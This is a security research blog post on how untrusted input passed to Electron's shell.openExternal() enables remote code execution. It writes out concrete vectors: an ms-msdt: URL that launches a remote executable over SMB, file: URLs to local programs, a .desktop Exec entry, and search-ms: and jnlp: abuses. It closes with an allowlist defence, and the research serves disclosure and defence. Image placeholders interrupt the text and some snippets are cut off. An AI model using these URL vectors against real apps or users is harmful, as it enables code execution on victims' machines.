The dangers of Electron's shell.openExternal()—many paths to remote code execution

The dangers of Electron's shell.openExternal()—many paths to remote code execution

For mybachelor’s thesis, I looked into the security of Electron apps. One possible attack vector that kept coming up was the insecure use of the shell.openExternal() function, which is commonly used to open websites in the user’s browser instead of in-app. Both the official security recommendations by the Electron developers and Doyensec’s Electron security checklist explicitly warn not to pass untrusted input to this function, explaining that an attacker might otherwise be able to execute arbitrary commands on the user’s computer.
But how would the attacker actually do that? Apart from an answer on the Information Security Stack Exchange with some partly outdated details, there didn’t seem to be any information available.

So, I had to dig in myself. I found that shell.openExternal() can absolutely be used to execute arbitrary code on all major systems (Windows, macOS and Linux). But the actual attack vectors that are available vary depending on the system. This post will provide an overview of what I found. The attacks presented here are by no means exhaustive—there are definitely others. Just because your app protects against the attacks I list, doesn’t mean you are safe. I will include a section at the end of the post on how to safely use shell.openExternal().

What is this all about?

But before we go into the actual attacks, let’s take a step back and discuss what the problem is in the first place. Electron includes a function shell.openExternal(url) that will “open the given external protocol URL in the desktop’s default manner” according to the documentation. This means that if I call shell.openExternal(', my website would open in theuser’s default browser instead of in my Electron app. Similarly, if I were to call shell.openExternal(''), the user’s default email program would open, ready to compose an email to me.So far, so good. From my experience, this is the only functionality that most apps need. The problem is that shell.openExternal() can do a lot more. In fact, it will happily open URLs for any protocol (see this section on why that is).

The first potentially ‘problematic’ protocol that comes to mind is the file: protocol and that is actually the one that is usually discussed. What if we were to pass file://c:/windows/system32/calc.exe or file:/System/Applications/ As you might guess, this would indeed open the calculator on Windows or macOS, respectively. However, this isn’t too interesting in and of itself. As we can only specify the path to the executable but not pass any arguments, the chance of executing a living off the land attack are slim. Thus, the attacker would likely have needed to drop a malicious executable beforehand. Don’t get me wrong: This is already aproblem but the actual impact is far greater as we will see.

Enter: remote files

We don’t have to limit ourselves to local files already on the user’s computer, though. Operating systems typically also include support for accessing files on remote file servers. Maybe we can use those to more easily execute arbitrary code? Why yes, yes we can! As I hinted at earlier, the particular attacks depend on the operating system in use, so I will go through the major ones.


Windows most notably supports the SMB/CIFS protocol. We can access files on a remote SMB server using URLs of the form \\server\share\path\to\file (which just maps back to a file: URL). For testing, we can conveniently use Microsoft’s Sysinternals Live service which hosts all kinds of (harmless) programs on a publicly available SMB server.

So, let’s try calling the following:


And indeed, this will open the Process Monitor program, even though it was never present on the user’s disk. Do note however, that a “Security Warning” mentioning the full path is displayed before the program is actually executed. Abusing security fatigue, i.e. users being tiredof constant security prompts and simply accepting them without further consideration, the attacker could use a specifically crafted host and file name to convince the user to click “Run” there.


While macOS also supports SMB (as well as AFP and NFS), trying to open a URL like smb://attacker.tld/public/ with shell.openExternal() will merely open Finder with the program selected in recent versions (tested with Catalina). If however, the attacker could somehow convince the user to mount the share themselves, the file would now also be available through file:/Volumes/public/ where it can actually be executed.

Further, macOS previously had an automount feature that would make any NFS export available via file:/net/attacker.tld/path/to/export. While this feature has been disabled in Catalina, it continues to work on machines that have not been upgraded yet.


On Linux, the situation is more complex. The xdg-open program, which is used internally by shell.openExternal() (see this section), will usually delegate to the desktop environment’s own “open” function, like gio open for Gnome. These functions usually don’t handle opening executables and will instead either refuse to open them or display them in some other application like a hex editor, if installed.

It is however possible to circumvent this limitation in some cases. On Xubuntu 20.04 running the XFCE desktop, .desktop files can be executed using xdg-open. Those files can execute arbitrary commands as this simple example shows:

[Desktop Entry]
Exec=xmessage "Hello from Electron."

The handling of remote locations also differs between distributions and desktop environments. While Ubuntu 20.04 with Gnome refuses to open Samba shares that have not beenmounted yet, Xubuntu 20.04 will instead gladly open files from there, including .desktop files (albeit sometimes with a warning about an “Untrusted application launcher”).Take your pick of a protocol

In addition, even if file: and similar URLs are filtered out, the attacker can make use of the myriad of other URI scheme handlers registered on modern systems. Vulnerabilities in those protocol handlers occur from time to time (in programs like Electron, Microsoft Edge, Ubisoft’s Uplay, or Origin) and sometimes even the intended behaviour of those handlers can also be abused.

I will give three examples for Windows here but there are definitely more of them out there and similar vectors likely also exist for other systems.

  • Windows includes the ms-msdt: protocol that opens the Microsoft Support Diagnostic Tool which provides the troubleshooting wizard to diagnose Wi-Fi and audio problems and the like. This protocol directly passes the string it is given to the msdt.exe program. The attacker now needs to find an included wizard that allows the execution of arbitrary programs, preferably even remote ones. The program compatibility wizard fits this description. Luckily for the attacker, all user input can also be prefilled from the command line, leading to this URL:

    ms-msdt:-id PCWDiagnostic /moreoptions false /skip true /param IT_BrowseForFile="\\\tools\procmon.exe" /param IT_SelectProgram="NotListed" /param IT_AutoTroubleshoot="ts_AUTO"

    Upon opening this URL with shell.openExternal(), the troubleshooting wizard will open and show a progress bar for the “diagnosis”. Once completed, the user is asked to click a button to check the compatibility settings. When they do so, the Process Monitortool is once again launched from the remote server. As this vector uses the official Microsoft troubleshooting tool that the user may already be familiar with and signals legitimate diagnosis taking place, it shouldn’t be too hard for the attacker toconvince the user that clicking this button is necessary.

  • Windows further includes the search-ms: protocol that opens the search feature. The attacker can supply both the query of the search and the location. This location can also be on a remote Samba share. Finally, they can even set the title of the search window.

    Using this, the attacker can craft the following URL searching the Sysinternals Live share to only display the Process Monitor executable with a title suggesting an important update:


  • If Java, which is often bundled with LibreOffice for example, is installed on the system, the attacker could also use the jnlp: protocol to launch a remote Java application like this (thisdoes display a warning, though):


Digging deeper into how shell.openExternal() actually opens URLs

If you want to research this topic further, it is useful to know how URLs are actually opened by shell.openExternal(). Unsurprisingly, this also differs by the operating system:

  • On Windows, a separate thread is opened (omitted here for brevity), the URL is surrounded with double quotes and then directly and without any filtering passed into ShellExecuteW() (Code taken from here):

    std::string OpenExternalOnWorkerThread(const GURL& url,
        const platform_util::OpenExternalOptions& options) {
      // […]
      base::string16 escaped_url = L"\""
          + base::UTF8ToUTF16(url.spec()) + L"\"";
      // […]ShellExecuteW(nullptr, L"open", escaped_url.c_str(), nullptr,
                    working_dir.empty() ? nullptr : working_dir.c_str(),
                    SW_SHOWNORMAL)) <= 32)
      // […]
  • On macOS, the call is put onto an asynchronous dispatch queue (omitted here for brevity), where it is passed directly into NSWorkspace#openURLs() (Code taken from here):

    std::string OpenURL(NSURL* ns_url, bool activate) {
      // […]
      NSUInteger launchOptions = NSWorkspaceLaunchDefault;
      if (!activate) launchOptions |= NSWorkspaceLaunchWithoutActivation;
      bool opened = [[NSWorkspace sharedWorkspace] openURLs:@[ ns_url ]
      // […]
  • On Linux, the URL is passed directly and without any filtering into xdg-open (Code taken from here. The XDGOpen() function is a wrapper that ultimatelydirectly calls xdg-open [url]):

    void OpenExternal(const GURL& url, const OpenExternalOptions&
        options, OpenCallback callback) {
      // […]
      if (url.SchemeIs("mailto")) {
          /* [open in default email software] */
      else {
        bool success = XDGOpen(url.spec(), false,
        // […]

All these cases are essentially the same. They take the provided URL and pass it into the respective operating system’s native method for openingarbitrary URLs, without applying any filtering or similar. It is entirely on the app developer to make sure that only the URLs they deem safe can be passed.

Defending against these attacks

This post has hopefully shown that blocklisting certain protocols or similar approaches are not sufficient to defend against shell.openExternal() attacks. The only viable solution is a strict allowlist that only permits the protocols (or even particular URLs) that are actually intended to be opened.

As I have said earlier, most apps really only want to open websites in the browser or maybe compose messages in the user’s email program. For these use-cases, only http(s): and mailto: need to be allowlisted:

const { shell } = require('electron');

function openInBrowser(url) {
  if (!['https:', 'http:'].includes(new URL(url).protocol))return;


function openInEmailSoftware(mailto_url) {if (new URL(mailto_url).protocol!== 'mailto:') return;